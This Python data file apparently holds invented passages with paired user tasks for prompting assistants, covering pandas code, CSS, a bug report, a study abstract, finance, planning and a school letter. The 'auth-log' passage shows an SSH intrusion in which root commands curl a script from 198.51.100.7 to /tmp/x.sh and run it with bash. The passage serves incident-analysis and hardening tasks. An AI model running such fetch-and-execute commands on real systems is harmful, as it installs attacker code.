"""More passages: bug reports, analysis snippets, web code, science, planning. Written for this project.

Same shape as passages_code.py.
"""

PASSAGES = [
    dict(
        id="pandas-warning",
        fence="python",
        text=r'''import pandas as pd

df = pd.read_csv("sensor_readings.csv", parse_dates=["ts"])
# columns: ts, sensor_id, temp_c, humidity, battery_v

recent = df[df["ts"] > "2024-06-01"]
recent["temp_f"] = recent["temp_c"] * 9 / 5 + 32      # SettingWithCopyWarning here

low_battery = recent[recent.battery_v < 3.3]
for i in range(len(low_battery)):
    row = low_battery.iloc[i]
    print(row.sensor_id, row.battery_v)

daily = recent.groupby([recent.ts.dt.date, "sensor_id"]).mean()
daily = daily.reset_index()
daily.to_csv("daily.csv")

# the file has 18 million rows and this takes 9 minutes and 14 GB of RAM
''',
        tasks=[
            ("Why do I get SettingWithCopyWarning on the marked line, and is my result actually wrong?", 400),
            ("Make this pandas script fast and memory-efficient for 18 million rows. Explain each change.", 800),
            ("Replace the loop over low_battery with idiomatic pandas that prints one line per sensor with its lowest voltage.", 250),
            ("Would Polars or DuckDB be a better fit here? Show the same daily aggregation in DuckDB SQL.", 450),
            ("The daily means include the ts column weirdly. What does groupby().mean() do with datetime columns in recent pandas?", 300),
        ],
    ),
    dict(
        id="auth-log",
        fence="",
        text='''Jun 12 03:14:07 web01 sshd[20931]: Invalid user admin from 203.0.113.45 port 51122
Jun 12 03:14:07 web01 sshd[20931]: Connection closed by invalid user admin 203.0.113.45 port 51122 [preauth]
Jun 12 03:14:09 web01 sshd[20933]: Invalid user oracle from 203.0.113.45 port 51190
Jun 12 03:14:11 web01 sshd[20935]: Invalid user test from 203.0.113.45 port 51244
Jun 12 03:15:42 web01 sshd[20960]: Failed password for root from 198.51.100.7 port 40022 ssh2
Jun 12 03:15:44 web01 sshd[20960]: Failed password for root from 198.51.100.7 port 40022 ssh2
Jun 12 03:15:47 web01 sshd[20960]: Failed password for root from 198.51.100.7 port 40022 ssh2
Jun 12 03:15:47 web01 sshd[20960]: error: maximum authentication attempts exceeded for root from 198.51.100.7 port 40022 ssh2 [preauth]
Jun 12 07:58:30 web01 sshd[21877]: Accepted publickey for deploy from 192.0.2.10 port 60311 ssh2: ED25519 SHA256:q3X0...
Jun 12 07:58:30 web01 sshd[21877]: pam_unix(sshd:session): session opened for user deploy by (uid=0)
Jun 12 08:02:11 web01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart app
Jun 12 09:40:02 web01 sshd[22410]: Accepted password for backup from 198.51.100.7 port 41880 ssh2
Jun 12 09:40:02 web01 sshd[22410]: pam_unix(sshd:session): session opened for user backup by (uid=0)
Jun 12 09:40:19 web01 sudo:   backup : TTY=pts/1 ; PWD=/home/backup ; USER=root ; COMMAND=/usr/bin/curl -s http://198.51.100.7/x.sh -o /tmp/x.sh
Jun 12 09:40:23 web01 sudo:   backup : TTY=pts/1 ; PWD=/home/backup ; USER=root ; COMMAND=/bin/bash /tmp/x.sh
Jun 12 09:41:05 web01 sshd[22410]: pam_unix(sshd:session): session closed for user backup
''',
        tasks=[
            ("I was looking through auth.log on one of our servers and something feels off. What happened here, and how worried should I be?", 600),
            ("Give me an incident response checklist for this server, in order, assuming it may be compromised.", 700),
            ("Write a Python script that parses auth.log lines like these and reports, per source IP, failed attempts, successful logins and users.", 700),
            ("What sshd_config and sudoers changes would have prevented this? Show the exact lines.", 400),
        ],
    ),
    dict(
        id="css-layout",
        fence="html",
        text=r'''<!doctype html>
<html>
<head>
<style>
  body { margin: 0; font-family: sans-serif; }
  .header { height: 60px; background: #223; color: white; }
  .container { display: flex; }
  .sidebar { width: 250px; background: #eee; height: 100%; }
  .content { padding: 20px; }
  .cards { display: flex; }
  .card { width: 33%; margin: 10px; border: 1px solid #ccc; padding: 16px; }
  .footer { background: #223; color: white; height: 40px; position: absolute; bottom: 0; width: 100%; }
</style>
</head>
<body>
  <div class="header">My Dashboard</div>
  <div class="container">
    <div class="sidebar">Menu</div>
    <div class="content">
      <div class="cards">
        <div class="card">Revenue</div>
        <div class="card">Users</div>
        <div class="card">Errors</div>
      </div>
      <p>Long report text...</p>
    </div>
  </div>
  <div class="footer">Footer</div>
</body>
</html>
''',
        tasks=[
            ("My sidebar doesn't stretch to the bottom, the cards overflow on narrow screens, and the footer covers the content when the page is long. Fix the CSS and explain each fix.", 700),
            ("Rewrite this layout with CSS Grid, responsive so the sidebar moves above the content under 700px.", 600),
            ("Make this page's markup more semantic and accessible. Show the improved HTML.", 450),
            ("Why does height: 100% on the sidebar not do what I expect? Short explanation.", 200),
        ],
    ),
    dict(
        id="github-issue",
        fence=None,
        text='''Title: Upload silently truncates files larger than 2 GB on Windows

**Version:** 3.8.1 (also seen in 3.8.0, not in 3.7.4)
**OS:** Windows 11 23H2, also Windows Server 2022. Not reproducible on macOS or Ubuntu.

**What happens**
Uploading a 2.6 GB video with `syncer upload big.mp4 remote:/videos/` finishes with
"Upload complete" and exit code 0, but the remote file is exactly 2,147,483,647 bytes. The
checksum step is skipped with "verification: size mismatch, skipping hash" at debug level only.

**Steps to reproduce**
1. `fsutil file createnew big.bin 2600000000`
2. `syncer upload big.bin remote:/tmp/ -v`
3. Compare sizes.

**Expected**
Either the full file is uploaded or the command fails with a non-zero exit code.

**Notes**
Looks related to the change in 3.8.0 "use native file API on Windows for faster reads". In
`fsio/read_windows.go` the chunk offset is stored in an int32 in `readAt()`. Files under 2 GB
work fine.

**Impact**
We use syncer for nightly backups of video archives. We've found 214 truncated files since we
upgraded three weeks ago. Backups looked successful in our monitoring because of exit code 0.
''',
        tasks=[
            ("I'm the maintainer of this project. Draft my reply to this issue: acknowledge it, explain what's likely wrong, and say what happens next.", 400),
            ("Triage this issue: label suggestions, severity, and whether it should block the next release. Short answer.", 150),
            ("Besides the int32 offset, what other bug does this report reveal? Explain why it's arguably worse.", 300),
            ("Write the release notes entry for the fix, including advice for affected users.", 250),
            ("Write a regression test plan for this bug that can run in CI without creating 2 GB files on disk.", 450),
        ],
    ),
    dict(
        id="sleep-abstract",
        fence=None,
        text='''Title: Effect of evening screen use on sleep onset in adolescents: a randomised crossover trial

Background: Observational studies associate evening screen use with later sleep onset in
adolescents, but causal evidence is limited.

Methods: We recruited 64 adolescents aged 14-17 from three secondary schools. In a crossover
design, each participant completed two one-week conditions in random order, separated by a
one-week washout: (a) no screens after 21:00, and (b) usual screen use. Sleep onset and duration
were measured by wrist actigraphy; adherence was monitored with phone usage logs. The primary
outcome was mean sleep onset time on school nights.

Results: 58 participants completed both conditions. In the no-screen condition, sleep onset was
on average 19 minutes earlier (95% CI 9-29 minutes) and total sleep time 21 minutes longer (95%
CI 8-34). Adherence to the no-screen rule was 81% of nights. Effects were larger in participants
with the latest baseline sleep onset. Self-reported mood did not differ between conditions.

Conclusions: Restricting screen use after 21:00 modestly advanced sleep onset in adolescents.
Larger trials with longer follow-up are needed to assess effects on daytime functioning.
''',
        tasks=[
            ("Explain this study to a parent who wants to know whether to take their teenager's phone away at night. Be accurate about what it does and doesn't show.", 400),
            ("Critically appraise this abstract: design strengths, limitations and possible biases.", 600),
            ("Write a tweet-length summary of the findings without overstating them.", 80),
            ("What does the 95% confidence interval of 9-29 minutes mean here, in plain words?", 180),
            ("Design a follow-up study that addresses the main limitations. Outline it briefly.", 500),
        ],
    ),
    dict(
        id="printing-history",
        fence=None,
        text='''Around 1450 in Mainz, Johannes Gutenberg combined several existing technologies into a system
that would change Europe: movable metal type cast in a hand mould, an oil-based ink that stuck to
metal, and a screw press adapted from those used for wine and paper. Movable type itself was not
new - it had been used in China and Korea centuries earlier - but the alphabet's small number of
characters made it far more practical in Europe, and Gutenberg's mould allowed type to be cast
quickly and identically.

The effects were fast by the standards of the time. By 1500, presses operated in more than 250
European towns, and historians estimate that some twenty million copies of books had been
printed, more than scribes had produced in the previous thousand years. Prices fell sharply.
Printing favoured vernacular languages over Latin as printers sought larger markets, which helped
standardise spelling and grammar in languages such as English, German and French.

The press also changed how ideas spread and who could challenge authority. Martin Luther's
writings after 1517 were printed in hundreds of thousands of copies within a few years, making
the Reformation arguably the first mass-media movement. Scientists could share exact copies of
diagrams and tables, so errors were corrected rather than multiplied by copying, a change some
historians see as a precondition for the scientific revolution.

Not everyone welcomed the change. Some scholars complained about the flood of poorly edited
books; authorities introduced licensing and censorship; and scribes lost their livelihoods.
Gutenberg himself profited little: a lawsuit by his financier, Johann Fust, cost him his workshop
and much of his equipment in 1455.
''',
        tasks=[
            ("Summarise this passage in three sentences for a history class.", 120),
            ("Compare the printing press with the internet, using this passage as the starting point. Where does the analogy work and where does it break down?", 700),
            ("Write five exam questions (short answer) on this text with model answers.", 450),
            ("Which claims in this text are estimates or contested among historians? Explain.", 350),
            ("Rewrite this passage as a short script for a 90-second educational video.", 400),
        ],
    ),
    dict(
        id="group-chat",
        fence=None,
        text='''[Sat 18:02] Leo: ok so are we doing the lake cabin thing or not 😅
[Sat 18:03] Nadia: yes!! but which weekend, I can't do the 14th
[Sat 18:03] Sam: 21st works for me, 28th too
[Sat 18:05] Jess: 21st I have my sister's thing in the afternoon, could drive up in the evening
[Sat 18:06] Leo: cabin is 320 for two nights, sleeps 6, so we'd be 5 with Tom?
[Sat 18:06] Tom: I'm in for the 28th only
[Sat 18:08] Nadia: 28th then? that's everyone
[Sat 18:09] Jess: 28th fine 👍
[Sat 18:09] Sam: ok 28th. who has a car? I don't
[Sat 18:10] Leo: me, 4 seats
[Sat 18:11] Jess: I can drive too, but I'd rather not drive back on sunday night
[Sat 18:12] Nadia: I'll do food shopping if someone else does drinks
[Sat 18:12] Tom: drinks on me. does the cabin have a grill?
[Sat 18:14] Leo: yes grill and a canoe. deposit is 100 and has to be paid by wednesday
[Sat 18:15] Sam: I can pay the deposit and everyone sends me their share?
[Sat 18:15] Leo: perfect
[Sat 18:16] Nadia: someone's vegetarian right? Jess?
[Sat 18:16] Jess: yep 🌱
''',
        tasks=[
            ("Summarise what this group chat decided and what's still open, as a short message I can pin in the chat.", 200),
            ("How much does each person owe if the cabin is split equally and Sam pays the deposit? Show the calculation and who pays Sam what, now and later.", 250),
            ("Write a packing and shopping list for this weekend based on the chat.", 350),
            ("Suggest a fair way to split car costs if Leo and Jess drive, about 140 km each way.", 250),
        ],
    ),
    dict(
        id="podcast-finance",
        fence=None,
        text='''HOST: So the question today comes from a listener, Aisha, who is 29, earns about 3,400 a month
after tax, and has 8,000 in a savings account earning almost nothing. She also has 6,500 left on
a car loan at 7.9%, and her employer offers a pension match up to 5% of salary that she isn't
taking. She asks: what should she do first?

GUEST: Love this question because it has a clear order to it. First, the employer match. If she
puts in 5% and they match 5%, that's an instant 100% return on that money, nothing else comes
close. Second, an emergency fund, and she already has that: 8,000 is a bit over two months of
take-home pay. I'd want three months for someone with a car loan, so maybe grow it a little, but
move it to an account that actually pays interest - in this rate environment that's a few percent
she's leaving on the table.

HOST: And the car loan? Some people would say pay it off with the savings.

GUEST: I wouldn't drain the emergency fund for it, because then one surprise bill and she's on a
credit card at 20%. But 7.9% is a guaranteed return if she overpays, so after the match and a
solid emergency fund, extra money goes to the loan. Once it's gone, that monthly payment becomes
her investing budget - that's the nice trick, she's already used to living without it.

HOST: What about investing now, index funds and so on?

GUEST: After the loan, yes. Low-cost global index fund, automatic monthly contribution, and
don't look at it every day. The order is what matters: match, emergency fund, high-interest
debt, then long-term investing.
''',
        tasks=[
            ("Turn this podcast segment into a short blog post with a clear step-by-step plan for Aisha.", 600),
            ("I'm in a similar situation but my car loan is at 3.5%. How would the guest's advice change? Explain.", 350),
            ("Put rough numbers on the guest's plan: how many months until the car loan is paid off if Aisha saves 700 a month after taking the match? State assumptions.", 400),
            ("Is there anything in this advice you'd disagree with or add caveats to?", 400),
        ],
    ),
    dict(
        id="expenses-csv",
        fence="",
        text='''date,description,category,amount
2024-05-01,Rent,Housing,-1150.00
2024-05-01,Salary,Income,3180.00
2024-05-02,Supermarket,Groceries,-84.20
2024-05-03,Streaming service,Subscriptions,-13.99
2024-05-04,Restaurant,Eating out,-46.50
2024-05-05,Gym,Subscriptions,-39.00
2024-05-07,Supermarket,Groceries,-61.75
2024-05-08,Coffee shop,Eating out,-4.80
2024-05-09,Coffee shop,Eating out,-4.80
2024-05-10,Train pass,Transport,-89.00
2024-05-11,Takeaway,Eating out,-28.40
2024-05-12,Cloud storage,Subscriptions,-2.99
2024-05-14,Supermarket,Groceries,-93.10
2024-05-15,Electricity,Utilities,-72.00
2024-05-16,Coffee shop,Eating out,-4.80
2024-05-18,Concert tickets,Leisure,-110.00
2024-05-19,Takeaway,Eating out,-31.20
2024-05-21,Supermarket,Groceries,-77.45
2024-05-22,Phone,Utilities,-25.00
2024-05-23,Coffee shop,Eating out,-4.80
2024-05-24,Clothes,Shopping,-135.00
2024-05-25,Restaurant,Eating out,-62.00
2024-05-27,Another streaming service,Subscriptions,-9.99
2024-05-28,Supermarket,Groceries,-58.30
2024-05-30,Internet,Utilities,-35.00
2024-05-31,Transfer to savings,Savings,-200.00
''',
        tasks=[
            ("Here are my bank transactions for May. Give me totals by category and tell me where I could realistically save 300 a month.", 500),
            ("What percentage of my income went to needs, wants and savings under the 50/30/20 rule? Show the classification.", 400),
            ("Write a Google Sheets formula setup that produces the category totals from these columns automatically.", 300),
            ("Did I spend more than I earned this month? One line answer with the number.", 60),
        ],
    ),
    dict(
        id="prd-feature",
        fence=None,
        text='''PRD: Shared shopping lists (v0.3, draft)

Problem
32% of our grocery app users live in households of two or more, and in interviews people told
us they send lists to each other in messaging apps, then re-type them. Households that plan
together buy 40% more per order (internal data, 2023), but our lists are single-user.

Goals
- Let up to 6 people share one list and edit it in real time.
- Increase weekly active lists per household by 20% within three months of launch.
- No increase in support tickets per 1,000 users.

Users and stories
- As a list owner I can invite someone by link or phone number.
- As a member I see who added an item and can tick items off; ticked items move to the bottom.
- As a member I get a notification when someone starts shopping with the list ("Sam is
  shopping"), so we don't both go.
- As an owner I can remove members.

Out of scope for v1: multiple lists per household, item assignments, comments, web app.

Open questions
- Offline edits: last write wins, or merge per item?
- Notifications: every change, or only "started shopping" and "finished"?
- What happens to a shared list if the owner deletes their account?

Metrics: invites sent, invite acceptance rate, lists with 2+ active editors per week, order value
for households with shared lists vs. single lists, notification opt-out rate.
''',
        tasks=[
            ("Review this PRD as a senior product manager. What's strong, what's missing, and what would you push on before engineering starts?", 700),
            ("Propose answers to the three open questions, with reasoning.", 500),
            ("Write acceptance criteria in Given/When/Then form for the invite and remove-member stories.", 500),
            ("The goal mentions a 40% higher order value for planning households. What's the risk in using that number to justify the feature?", 250),
            ("Sketch the data model and the sync approach engineering might use for real-time list editing, at a high level.", 650),
        ],
    ),
    dict(
        id="school-letter",
        fence=None,
        text='''Dear Parents and Carers,

Year 8 Residential Trip - Brecon Beacons, 10-12 June

We are delighted to offer all Year 8 students a place on our residential trip to the Brecon
Beacons outdoor centre. Students will take part in gorge walking, canoeing, climbing and a night
walk, supervised by qualified instructors and school staff. Previous groups have told us it was
the highlight of their year.

The cost is 245 per student, which includes transport, accommodation, all meals and activities.
A non-refundable deposit of 50 is due by 15 March, with the remainder by 1 May. Families
eligible for free school meals can apply for a reduced rate of 60 in total; please contact Mrs
Hughes in confidence. Payments can be made in instalments through the school payment system.

Students will need waterproof clothing, walking boots or sturdy trainers, old clothes that can
get wet and muddy, a sleeping bag and a towel. A full kit list will follow. Mobile phones will be
collected on arrival and returned for a short time each evening.

Please complete the consent and medical form online by 15 March. If your child has any dietary
requirements, medical conditions or additional needs, please give details so we can plan
appropriately. An information evening for parents will be held on 20 April at 18:00 in the hall.

Yours sincerely,
Mr D. Carter
Head of Year 8
''',
        tasks=[
            ("Extract all dates, costs and actions for parents from this letter into a clear checklist.", 250),
            ("My child is anxious about being away from home and doesn't like water. Help me write a message to the Head of Year asking how they'd support her.", 300),
            ("Translate this letter into Polish for a family who doesn't read English well.", 800),
            ("Rewrite this letter more concisely, at about half the length, keeping every essential detail.", 350),
        ],
    ),
]
